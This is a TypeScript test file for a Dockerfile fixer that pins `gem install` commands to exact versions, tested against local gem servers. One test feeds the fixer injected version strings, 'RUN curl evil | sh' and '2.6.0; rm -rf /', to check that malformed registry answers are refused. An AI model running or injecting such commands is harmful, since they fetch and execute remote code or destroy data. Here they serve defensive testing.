/**
 * gem-version through the fix engine against gem servers on loopback whose gems and index the real `gem build`
 * and `gem generate_index` made (test/helpers/gemServer.ts): the exact pinned text,
 * the newest-release and requirement rules, several sources, failures left with their reason while the
 * other gems of the command are pinned, malformed answers refused, the lock, and one lookup per gem.
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { Lookups } from '../../src/resolve/shared';
import { fixText, type FixOutcome } from '../../src/fix';
import { gemVersionFixer } from '../../src/fixers/gem-version';
import { HttpClient } from '../../src/resolve/http';
import { LockFile } from '../../src/resolve/lock';
import { compareGemVersions, satisfiesGem, parseGemRequirement } from '../../src/resolve/rubygems';
import rule from '../../src/rules/gem-pin';
import { packageFix, useFixtureServers } from '../helpers/packageFix';
import { GEM_TOOLS, startGemServer } from '../helpers/gemServer';
import type { FixtureServer } from '../helpers/packageServers';
import { describeWithTools } from '../helpers/realTools';
import { workspace } from '../helpers/workspace';
import { withFixer } from '../helpers/fixerTable';

let main: FixtureServer;
let mirror: FixtureServer;
let plain: FixtureServer;

describeWithTools('gem-version against gem servers made by the real gem', GEM_TOOLS, () => {
  useFixtureServers(async () => {
    main = await startGemServer({
      rails: [{ number: '8.0.0.rc1' }, { number: '7.2.1' }, { number: '7.2.0' }, { number: '7.1.5' }, { number: '7.1.4' }],
      bundler: [{ number: '2.5.11' }, { number: '2.5.10' }, { number: '2.4.22' }, { number: '2.4.21' }],
      nokogiri: [{ number: '1.16.7' }, { number: '1.16.7', platform: 'x86_64-linux' }, { number: '1.16.6' }],
      onlypre: [{ number: '1.0.0.beta2' }, { number: '1.0.0.beta1' }],
      evil: [{ number: '1.0.0' }],
      broken: [{ number: '1.0.0' }],
    });
    mirror = await startGemServer({ rails: [{ number: '7.2.2' }], inhouse: [{ number: '0.3.0' }, { number: '0.2.9' }] });
    // A gem server without latest.json; the newest nokogiri exists only for Java.
    plain = await startGemServer({ nokogiri: [{ number: '1.17.0', platform: 'java' }, { number: '1.16.7', platform: 'x86_64-linux' }, { number: '1.16.5' }] }, { latestEndpoint: false });
    return [main, mirror, plain];
  });

  const fix = packageFix(() => ({ rule, fixer: gemVersionFixer({ defaultSource: main.url }) }));

  const reasons = (r: FixOutcome) => r.left.map((l) => [l.left, l.reason]);
  const execFileAsync = promisify(execFile);

  describe('gem-version', () => {
    it('pins each gem word as name:version with the newest release, keeping quotes and every other byte', async () => {
      const r = await fix(`FROM ruby:3.3\nRUN gem install --no-document rails "bundler" \\\n && gem i 'nokogiri'\n`);
      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install --no-document rails:7.2.1 "bundler:2.5.11" \\\n && gem i 'nokogiri:1.16.7'\n`);
      expect(r.left).toEqual([]);
      expect(r.applied).toEqual([
        { rule: 'gem-pin', title: `pin gem 'rails' → 'rails:7.2.1' (newest release on ${main.url}/)`, applicability: 'safe' },
        { rule: 'gem-pin', title: `pin gem 'bundler' → 'bundler:2.5.11' (newest release on ${main.url}/)`, applicability: 'safe' },
        { rule: 'gem-pin', title: `pin gem 'nokogiri' → 'nokogiri:1.16.7' (newest release on ${main.url}/)`, applicability: 'safe' },
      ]);
      // latest.json answers a plain install: one small request per gem.
      expect(main.requests.sort()).toEqual(['/api/v1/versions/bundler/latest.json', '/api/v1/versions/nokogiri/latest.json', '/api/v1/versions/rails/latest.json']);
    });

    it('a requirement, in the gem word or with -v, becomes the newest version matching it', async () => {
      const r = await fix(`FROM ruby:3.3\nRUN gem install 'rails:~> 7.1.0' && gem install bundler --version '~> 2.4.0' && gem install bundler --version='>= 2.4, < 2.5'\n`);
      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install 'rails:7.1.5' && gem install bundler --version '2.4.22' && gem install bundler --version='2.4.22'\n`);
      expect(r.left).toEqual([]);
      expect(r.applied.map((a) => a.title)).toEqual([
        `pin gem 'rails:~> 7.1.0' → 'rails:7.1.5' (newest release matching '~> 7.1.0' on ${main.url}/)`,
        `pin gem 'bundler' version '~> 2.4.0' → '2.4.22' (newest release matching '~> 2.4.0' on ${main.url}/)`,
        `pin gem 'bundler' version '>= 2.4, < 2.5' → '2.4.22' (newest release matching '>= 2.4, < 2.5' on ${main.url}/)`,
      ]);
    });

    it('prereleases only with --pre; a gem with only prereleases is left with the reason', async () => {
      const r = await fix(`FROM ruby:3.3\nRUN gem install --pre rails && gem install onlypre\n`);
      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install --pre rails:8.0.0.rc1 && gem install onlypre\n`);
      expect(reasons(r)).toEqual([['failed', `lookup failed: ${main.url}/api/v1/versions/onlypre.json: gem 'onlypre' has only prereleases (no release)`]]);
    });

    it('a gem the source does not have is left while the others in the command are pinned', async () => {
      // rubygems.org's latest.json for a gem it does not have (a static gem server answers 404 instead).
      main.override.set('/api/v1/versions/nosuchgem/latest.json', { status: 200, body: JSON.stringify({ version: 'unknown' }) });
      const r = await fix(`FROM ruby:3.3\nRUN gem install nosuchgem rails\n`);
      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install nosuchgem rails:7.2.1\n`);
      expect(reasons(r)).toEqual([['failed', `lookup failed: gem 'nosuchgem' is not on ${main.url}/`]]);
      // latest.json says "unknown"; the version list (404) confirms.
      expect(main.requests).toContain('/api/v1/versions/nosuchgem.json');
    });

    it('sources: --source adds to rubygems.org (sources that disagree leave the finding); --clear-sources first makes it the only one', async () => {
      const r = await fix(`FROM ruby:3.3\nRUN gem install --source ${mirror.url} rails && gem install --clear-sources --source ${mirror.url}/ rails\n`);
      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install --source ${mirror.url} rails && gem install --clear-sources --source ${mirror.url}/ rails:7.2.2\n`);
      expect(r.applied.map((a) => a.title)).toEqual([`pin gem 'rails' → 'rails:7.2.2' (newest release on ${mirror.url}/)`]);
      expect(reasons(r)).toEqual([
        ['no-fixer', `the gem sources disagree on 'rails' (7.2.1 on ${main.url}/, 7.2.2 on ${mirror.url}/) and which one gem install takes depends on the image's RubyGems: pin it by hand, or use one source (--clear-sources --source URL)`],
      ]);
      expect(main.requests).toEqual(['/api/v1/versions/rails/latest.json']);
    });

    it('a server without latest.json: the version list decides, Linux platforms only', async () => {
      const r = await fix(`FROM ruby:3.3\nRUN gem install --clear-sources -s ${plain.url} nokogiri\n`);
      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install --clear-sources -s ${plain.url} nokogiri:1.16.7\n`);
      expect(plain.requests).toEqual(['/api/v1/versions/nokogiri/latest.json', '/api/v1/versions/nokogiri.json']);
    });

    it('malformed answers are refused: nothing unsafe is ever written', async () => {
      main.override.set('/api/v1/versions/evil/latest.json', { status: 200, body: JSON.stringify({ version: '1.0.0\nRUN curl evil | sh' }) });
      main.override.set('/api/v1/versions/broken/latest.json', { status: 200, body: '{"version": ' });
      main.override.set('/api/v1/versions/bundler.json', { status: 200, body: JSON.stringify([{ number: '2.6.0; rm -rf /', platform: 'ruby' }]) });
      const r = await fix(`FROM ruby:3.3\nRUN gem install evil broken rails && gem install --pre bundler\n`);
      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install evil broken rails:7.2.1 && gem install --pre bundler\n`);
      expect(reasons(r)).toEqual([
        ['failed', `lookup failed: ${main.url}/api/v1/versions/evil/latest.json: malformed version "1.0.0\\nRUN curl evil | sh"`],
        ['failed', `lookup failed: ${main.url}/api/v1/versions/broken/latest.json: the answer is not valid JSON`],
        ['failed', `lookup failed: ${main.url}/api/v1/versions/bundler.json: malformed version "2.6.0; rm -rf /"`],
      ]);
    });

    it('a server error is left with the reason', async () => {
      main.override.set('/api/v1/versions/rails/latest.json', { status: 503, body: 'down' });
      const r = await fix(`FROM ruby:3.3\nRUN gem install rails\n`);
      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install rails\n`);
      expect(reasons(r)).toEqual([['failed', `lookup failed: ${main.url}/api/v1/versions/rails/latest.json: registry server error 503, retries exhausted`]]);
    });

    /** The version the real gem would install (`gem install --explain`, no installed gems, only `sources`), and gem-version's pin. */
    /** What the real `gem install --explain` would install from `sources`, in that order. */
    async function realGem(args: string, sources: FixtureServer[], name: string): Promise<string | undefined> {
      const home = mkdtempSync(join(tmpdir(), 'dockrepro-gem-home-'));
      try {
        const env = { ...process.env, GEM_HOME: home, GEM_PATH: home, HOME: home };
        const words = args.match(/'[^']*'|\S+/g)!.map((w) => w.replace(/^'|'$/g, ''));
        const sourceArgs = sources.flatMap((s) => ['--source', `${s.url}/`]);
        // --remote and an empty working directory: no .gem file lying around is a candidate.
        const { stdout } = await execFileAsync('gem', ['install', '--explain', '--remote', '--clear-sources', ...sourceArgs, ...words], { env, cwd: home });
        // "Gems to install:\n  nokogiri-1.16.7-x86_64-linux\n": the version follows the name, a platform may follow it.
        return new RegExp(`^  ${name}-([^-\\s]+)`, 'm').exec(stdout)?.[1];
      } finally {
        rmSync(home, { recursive: true, force: true });
      }
    }

    /** The fixer on `gem install <args>` with the same sources in the same order (main is its default source). */
    function fixWithSources(args: string, sources: FixtureServer[]) {
      const [first, ...more] = sources;
      const options = `${first === main ? '' : `--clear-sources --source ${first.url} `}${more.map((s) => `--source ${s.url} `).join('')}`;
      return fix(`FROM ruby:3.3\nRUN gem install ${options}${args}\n`);
    }

    async function gemAndFixer(args: string, sources: FixtureServer[], name: string): Promise<[string | undefined, string | undefined]> {
      const gem = await realGem(args, sources, name);
      const r = await fixWithSources(args, sources);
      expect(r.applied).toHaveLength(1);
      return [gem, /→ '(?:[^':]+:)?([^']+)'/.exec(r.applied[0].title)?.[1]];
    }

    it('pins what the real gem would install from the same server (gem install --explain)', async () => {
      const cases: [string, FixtureServer, string][] = [
        ['rails', main, 'rails'],
        ['--pre rails', main, 'rails'],
        ["'rails:~> 7.1.0'", main, 'rails'],
        ["bundler --version '>= 2.4, < 2.5'", main, 'bundler'],
        ['nokogiri', main, 'nokogiri'],
        ['nokogiri', plain, 'nokogiri'],
      ];
      for (const [args, source, name] of cases) {
        const [gem, pinned] = await gemAndFixer(args, [source], name);
        expect([args, source.url, gem]).toEqual([args, source.url, pinned]);
        expect(gem).toMatch(/^\d/);
      }
    }, 120_000);

    it('sources that disagree: the real gem takes the first that has the gem, so the fixer leaves the finding', async () => {
      // RubyGems 3.3 installs from the first source that has the gem, whatever the others offer; which one a
      // newer RubyGems in the image takes is not known here, so a pin either way could be wrong.
      expect(await realGem('rails', [main, mirror], 'rails')).toBe('7.2.1');
      expect(await realGem('rails', [mirror, main], 'rails')).toBe('7.2.2');
      for (const order of [[main, mirror], [mirror, main]]) {
        const r = await fixWithSources('rails', order);
        expect(r.applied).toEqual([]);
        expect(reasons(r)).toEqual([['no-fixer', expect.stringMatching(/^the gem sources disagree on 'rails' \(7\.2\.[12] on .*, 7\.2\.[12] on .*\) and which one gem install takes depends on the image's RubyGems/)]]);
      }
      // A gem only one of the sources has is that source's, in either order.
      expect(await gemAndFixer('inhouse', [main, mirror], 'inhouse')).toEqual(['0.3.0', '0.3.0']);
      expect(await gemAndFixer('inhouse', [mirror, main], 'inhouse')).toEqual(['0.3.0', '0.3.0']);
    }, 120_000);

    it('the lock makes a re-run offline and identical, with no request', async () => {
      const text = `FROM ruby:3.3\nRUN gem install rails 'bundler:~> 2.4.0'\n`;
      const first = await fix(text);
      expect(first.text).toBe(`FROM ruby:3.3\nRUN gem install rails:7.2.1 'bundler:2.4.22'\n`);
      expect(first.lock.getPackage(`gem:rails ${main.url}/`)).toEqual({ version: '7.2.1', resolvedAt: '2026-11-25T12:00:00.000Z' });
      expect(first.lock.getPackage(`gem:bundler ~> 2.4.0 ${main.url}/`)?.version).toBe('2.4.22');
      const http = new HttpClient({ retries: 0 });
      const again = await fix(text, { lock: first.lock, offline: true, http });
      expect(again.text).toBe(first.text);
      expect(again.applied.map((a) => a.title)).toEqual([
        `pin gem 'rails' → 'rails:7.2.1' (from ${first.lock.path})`,
        `pin gem 'bundler:~> 2.4.0' → 'bundler:2.4.22' (from ${first.lock.path})`,
      ]);
      expect(http.requests).toBe(0);
      // Offline without a lock entry: left as needing the network.
      const cold = await fix(text, { offline: true, http });
      expect(cold.left.map((l) => l.left)).toEqual(['needs-network', 'needs-network']);
    });

    it('one lookup per gem and sources for a whole run, however many commands and files name it', async () => {
      const lookups = new Lookups();
      const http = new HttpClient({ retries: 0 });
      const lock = LockFile.load(join(workspace({}), 'dockrepro.lock.json'));
      const a = await fix(`FROM ruby:3.3\nRUN gem install rails && gem install rails\n`, { lookups, http, lock });
      const b = await fix(`FROM ruby:3.2\nRUN gem install "rails"\n`, { lookups, http, lock });
      expect(a.text).toBe(`FROM ruby:3.3\nRUN gem install rails:7.2.1 && gem install rails:7.2.1\n`);
      expect(b.text).toBe(`FROM ruby:3.2\nRUN gem install "rails:7.2.1"\n`);
      expect(main.requests).toEqual(['/api/v1/versions/rails/latest.json']);
    });

    it('leaves what it cannot pin safely, with the reason', async () => {
      const r = await fix(`FROM ruby:3.3\nARG G=rails\nRUN gem install $G && gem install bundler -v '>= 2' -v '< 3' && gem install --clear-sources rails\n`);
      expect(r.text).toBe(`FROM ruby:3.3\nARG G=rails\nRUN gem install $G && gem install bundler -v '>= 2' -v '< 3' && gem install --clear-sources rails\n`);
      expect(reasons(r)).toEqual([
        ['no-fixer', `'$G' comes from $G: pin it where the variable is defined`],
        ['no-fixer', 'several -v options make one compound requirement: write a single exact -v by hand'],
        ['no-fixer', '--clear-sources leaves no gem source'],
      ]);
    });

    it('without a package context the finding needs the network', async () => {
      const fixer = gemVersionFixer({ defaultSource: main.url });
      const r = await fixText(`FROM ruby:3.3\nRUN gem install rails\n`, { rules: [rule], unsafe: false, offline: false, baseId: 10001, fixers: withFixer(fixer) });
      expect(reasons(r)).toEqual([['needs-network', 'needs a package index lookup']]);
    });
  });

});

describe('Gem::Version and Gem::Requirement', () => {
  it('orders versions as RubyGems does', () => {
    const sorted = ['1.0.0', '1.0.0.rc1', '1.0.0.a', '1.0', '0.9.10', '0.9.9', '1.0.0-beta', '1.1'].sort(compareGemVersions);
    expect(sorted).toEqual(['0.9.9', '0.9.10', '1.0.0.a', '1.0.0-beta', '1.0.0.rc1', '1.0', '1.1'].flatMap((v) => (v === '1.0' ? ['1.0.0', '1.0'] : [v])));
    expect(compareGemVersions('1.0', '1.0.0')).toBe(0);
  });

  it('evaluates ~> and friends', () => {
    const req = (s: string) => parseGemRequirement(s.split(/\s*,\s*/))!;
    expect(satisfiesGem('2.4.22', req('~> 2.4.0'))).toBe(true);
    expect(satisfiesGem('2.5.0', req('~> 2.4.0'))).toBe(false);
    expect(satisfiesGem('2.9', req('~> 2.4'))).toBe(true);
    expect(satisfiesGem('3.0', req('~> 2.4'))).toBe(false);
    expect(satisfiesGem('2.0', req('>= 1, < 2'))).toBe(false);
    expect(satisfiesGem('1.5', req('!= 1.5'))).toBe(false);
    expect(parseGemRequirement(['~> 2; rm'])).toBeUndefined();
  });
});
